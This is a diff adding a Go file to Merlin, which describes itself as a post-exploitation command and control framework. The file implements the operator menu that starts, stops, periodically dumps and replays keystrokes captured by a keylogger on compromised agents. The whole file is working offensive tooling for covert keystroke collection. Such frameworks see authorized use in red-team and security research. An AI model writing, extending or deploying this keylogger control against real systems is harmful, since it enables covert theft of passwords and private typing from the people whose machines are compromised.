@@ -0,0 +1,117 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package cli
+
+import (
+	// Standard
+	"fmt"
+	"time"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin/pkg/agents"
+	"github.com/Ne0nd0g/merlin/pkg/events"
+	"github.com/Ne0nd0g/merlin/pkg/keylog"
+)
+
+// keylogDumpInterval is how often a running keylogger is dumped when the operator does not choose an interval
+const keylogDumpInterval = 5 * time.Minute
+
+// menuKeylog starts, stops, or dumps the keylogger of the agent the agent menu is interacting with, or replays the
+// keystrokes stored for it
+func menuKeylog(cmd []string) {
+	if len(cmd) == 0 {
+		message("warn", "Invalid 'keylog' command; use start [<dump interval>], stop, dump, or replay [raw] [<since>]")
+		return
+	}
+	switch cmd[0] {
+	case "start":
+		interval := keylogDumpInterval
+		if len(cmd) > 1 {
+			i, err := time.ParseDuration(cmd[1])
+			if err != nil || i < 0 {
+				message("warn", fmt.Sprintf("%s is not a valid dump interval; use a duration such as 30s or 5m, or 0 to only dump with 'keylog dump'", cmd[1]))
+				return
+			}
+			interval = i
+		}
+		if !keylogJob("start") {
+			return
+		}
+		if interval == 0 {
+			message("info", "The keystrokes are only returned by 'keylog dump' and 'keylog stop'")
+			return
+		}
+		if err := agents.KeylogDumps(shellAgent, interval); err != nil {
+			message("warn", err.Error())
+			return
+		}
+		message("info", fmt.Sprintf("The keystrokes will be dumped every %s until 'keylog stop'", interval))
+	case "stop":
+		if !keylogJob("stop") {
+			return
+		}
+		if err := agents.KeylogDumps(shellAgent, 0); err != nil {
+			message("warn", err.Error())
+		}
+	case "dump":
+		keylogJob("dump")
+	case "replay":
+		raw := len(cmd) > 1 && cmd[1] == "raw"
+		if raw {
+			cmd = cmd[1:]
+		}
+		var since time.Time
+		if len(cmd) > 1 {
+			t, err := events.ParseTime(cmd[1], time.Now())
+			if err != nil {
+				message("warn", err.Error())
+				return
+			}
+			since = t
+		}
+		keystrokes, err := keylog.Read(shellAgent, since)
+		if err != nil {
+			message("warn", err.Error())
+			return
+		}
+		if len(keystrokes) == 0 {
+			message("info", fmt.Sprintf("There are no stored keystrokes for agent %s", shellAgent))
+			return
+		}
+		fmt.Println()
+		fmt.Println(keylog.Replay(keystrokes, raw))
+		fmt.Println()
+		if !raw {
+			message("note", "Backspaces were applied to show the text as it was typed; use 'keylog replay raw' to see every key")
+		}
+	default:
+		message("warn", fmt.Sprintf("Invalid 'keylog' command: %s", cmd[0]))
+	}
+}
+
+// keylogJob creates the job that sends the command to the agent's keylogger and returns false if it was not created
+func keylogJob(command string) bool {
+	m, err := addJob(shellAgent, "keylog", []string{command})
+	if err != nil {
+		message("warn", err.Error())
+		return false
+	}
+	message("note", fmt.Sprintf("Created job %s for agent %s at %s",
+		m, shellAgent, time.Now().UTC().Format(time.RFC3339)))
+	return true
+}